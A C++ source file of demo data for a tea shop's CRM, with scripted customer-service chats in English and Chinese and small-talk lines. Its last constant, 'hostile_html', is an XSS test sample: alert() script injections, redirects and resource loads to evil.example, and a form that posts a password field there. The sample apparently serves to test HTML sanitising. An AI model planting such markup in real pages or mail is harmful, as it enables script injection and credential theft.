#include "crm/demo/scripts.hpp"

namespace crm::demo {

const std::vector<script>& english_scripts()
{
    static const std::vector<script> all{
        {.subject = "Where is my order?",
         .lines =
             {"CHi, where is order {order}? It was due yesterday.",
              "AHello {name}, let me look that up for you.",
              "AIt left our warehouse on time; the carrier shows it in your city since this "
              "morning.",
              "COh good. Will it come today?",
              "AYes, before 18:00. I have asked them to ring the bell.",
              "CPerfect, thank you!"},
         .needs_order = true},
        {.subject = "Broken teapot",
         .lines =
             {"CThe teapot from {order} arrived with a crack in the lid :(",
              "AI am sorry about that. Could you send a picture?",
              "CSure, I will take one.",
              "NSecond cracked lid of this batch. Tell the warehouse.",
              "AThank you. A new lid goes out today, and you may keep the old one.",
              "CThat was quick, thanks."},
         .needs_order = true},
        {.subject = "Gift wrapping",
         .lines =
             {"CDo you offer gift wrapping?",
              "AWe do, it is 3.00 per parcel, with a handwritten card.",
              "CCan the card be in Chinese?",
              "AOf course. Write the text into the comment field of the order.",
              "CGreat, ordering now."}},
        {.subject = "Which green tea is mild?",
         .lines =
             {"CI find most green teas bitter. Which one would you recommend?",
              "ATry the Longjing at 80 °C, two minutes at most.",
              "CIs 80 °C important?",
              "AVery. Boiling water makes it bitter.",
              "CAnd how much does a sample cost?",
              "AA 25 g sample is 6.90, and it comes off your first order.",
              "CI will take two."}},
        {.subject = "Invoice for my company",
         .lines =
             {"CCould I get an invoice for {order} with our VAT number?",
              "ACertainly. Which number shall it carry?",
              "CDE 123 456 789",
              "ADone, it is on its way to your mail address.",
              "CReceived. Thank you."},
         .needs_order = true},
        {.subject = "Return",
         .lines =
             {"CI would like to return the white tea of {order}, it is not to my taste.",
              "ANo problem within 30 days. Is the bag still closed?",
              "CI opened it and had one cup.",
              "NRegular customer, let us be generous.",
              "AWe take it back anyway. The label is in your inbox.",
              "CVery kind. I will order something else.",
              "AHow about a sample set next time?",
              "CGood idea!"},
         .needs_order = true},
        {.subject = "Payment failed",
         .lines =
             {"CMy card was declined but the money is reserved??",
              "AThat is a reservation only; your bank releases it within three days.",
              "CSo I should try again?",
              "AYes, or pay by transfer. I keep the parcel for you until Friday."}},
        {.subject = "Subscription",
         .lines =
             {"CCan I pause my monthly box for August?",
              "ADone: paused for August, the next one leaves on 3 September.",
              "CThanks, bye!"}},
        {.subject = "Wrong item",
         .lines =
             {"CI got jasmine instead of oolong in {order}.",
              "AThat is our mistake. The oolong leaves today by express.",
              "CWhat about the jasmine?",
              "APlease keep it, with our apologies.",
              "CWow. Thank you!"},
         .needs_order = true},
        {.subject = "Opening hours",
         .lines = {"CAre you open on Saturday?", "AFrom 10 to 16, and chat until 20."}},
        {.subject = "Wholesale prices",
         .lines =
             {"CWe run a café with 40 seats. Do you have wholesale prices?",
              "AWe do from 5 kg. May I call you tomorrow morning?",
              "C10 am works, ask for Mrs. Okafor.",
              "NCalled: wants 8 kg Earl Grey a month. Offer goes out today.",
              "AThe offer is in your mailbox. Valid for four weeks.",
              "CLooks good, I will talk to my partner."}},
        {.subject = "Caffeine",
         .lines =
             {"CHow much caffeine is in matcha compared to coffee?",
              "AA bowl has about 60 mg, a cup of coffee about 90.",
              "CThanks 🍵"}},
    };
    return all;
}

const std::vector<script>& chinese_scripts()
{
    static const std::vector<script> all{
        {.subject = "订单物流查询",
         .lines =
             {"C你好，订单 {order} 到哪里了？",
              "A您好，{name}，我马上为您查询。",
              "A包裹今天早上已到达您所在的城市，预计下午派送。",
              "C好的，能放在快递柜吗？",
              "A可以，已经为您备注。",
              "C谢谢！"},
         .needs_order = true},
        {.subject = "茶叶受潮",
         .lines =
             {"C{order} 里的龙井好像受潮了，味道不对。",
              "A非常抱歉，可以麻烦您拍张照片吗？",
              "C已经拍了，等下发给你。",
              "N同批次第三例，请仓库检查密封。",
              "A我们今天给您补发一罐新的，旧的不用退回。",
              "C处理得真快，点赞👍"},
         .needs_order = true},
        {.subject = "开发票",
         .lines =
             {"C请问 {order} 可以开增值税专用发票吗？",
              "A可以的，请提供公司抬头和税号。",
              "C杭州云栖茶业有限公司，91330100MA27XXXX0K",
              "A电子发票已发送到您的邮箱，请查收。",
              "C收到，谢谢。"},
         .needs_order = true},
        {.subject = "送礼推荐",
         .lines =
             {"C想买茶送长辈，预算五百左右，有推荐吗？",
              "A推荐武夷岩茶礼盒，口感醇厚，包装也很大气。",
              "C可以写贺卡吗？",
              "A可以，下单时在备注里写上内容即可。",
              "C那就这个了。",
              "A好的，今天下单明天就能发货。"}},
        {.subject = "退款进度",
         .lines =
             {"C{order} 的退款什么时候到账？",
              "A退款昨天已提交，银行一般 3 到 5 个工作日到账。",
              "C好吧，再等等。",
              "N周五回访确认是否到账。",
              "A到账后您会收到短信，有问题随时找我们。"},
         .needs_order = true},
        {.subject = "会员积分",
         .lines =
             {"C我的积分怎么少了两百？",
              "A您好，去年的积分在三月底到期了，到期前发过短信提醒。",
              "C能不能恢复一下？",
              "A这次为您破例恢复一百分，欢迎继续选购。",
              "C谢谢理解。"}},
        {.subject = "换货",
         .lines =
             {"C茶杯收到是蓝色的，我订的是白色。",
              "A是我们发错了，非常抱歉。白色的今天发出，运费我们承担。",
              "C蓝色的要寄回吗？",
              "A不用寄回，送给您了。",
              "C太好了！"},
         .needs_order = true},
        {.subject = "冲泡方法",
         .lines =
             {"C普洱需要洗茶吗？",
              "A建议用沸水快速润一次，第二泡开始饮用。",
              "C明白了，谢谢小姐姐😄"}},
        {.subject = "批发合作",
         .lines =
             {"C我们公司想每月采购茶叶做员工福利，有合作价吗？",
              "A有的，每月五公斤以上享受批发价，方便留个电话吗？",
              "C138 0013 8000，找王经理。",
              "N已电话沟通，需要 60 份，月底前报价。",
              "A报价单已发送，请您查收。",
              "C收到，下周一答复你们。"}},
    };
    return all;
}

const std::vector<std::string_view>& small_talk()
{
    static const std::vector<std::string_view> all{
        "C我想把三十几种茶都了解一下，慢慢聊可以吗？",
        "A当然可以，我们一种一种来。",
        "CLet us switch to English for a moment, my husband is reading along.",
        "AWith pleasure. Shall we go on with the oolongs?",
        "C这款适合早上喝吗？",
        "A适合，早上喝提神，建议水温九十五度。",
        "CHow long does it keep?",
        "ATwo years in a closed tin, away from light.",
        "C下一款呢？",
        "A下一款是白牡丹，口感清甜。",
        "C😍",
        "A🍃"
    };
    return all;
}

const std::string_view hostile_html =
    "<html><head><base href=\"https://evil.example/\"><meta http-equiv=\"refresh\" "
    "content=\"0;url=//evil."
    "example\"><style>@import "
    "url(//evil.example/a.css);body{background:url(//evil.example/b.png)}</style>"
    "</head><body onload=\"alert(1)\"><p style=\"font-size:18px\">Dear team, please see below.</p>"
    "<img src=\"https://evil.example/pixel.gif\" onerror=\"alert(2)\"><a "
    "href=\"javascript:alert(3)\">our "
    "order</a><form action=\"//evil.example\"><input "
    "name=\"password\"></form><svg><script>alert(4)</script>"
    "</svg><iframe srcdoc=\"&lt;script&gt;alert(5)&lt;/script&gt;\"></iframe></body></html>";

} // namespace crm::demo
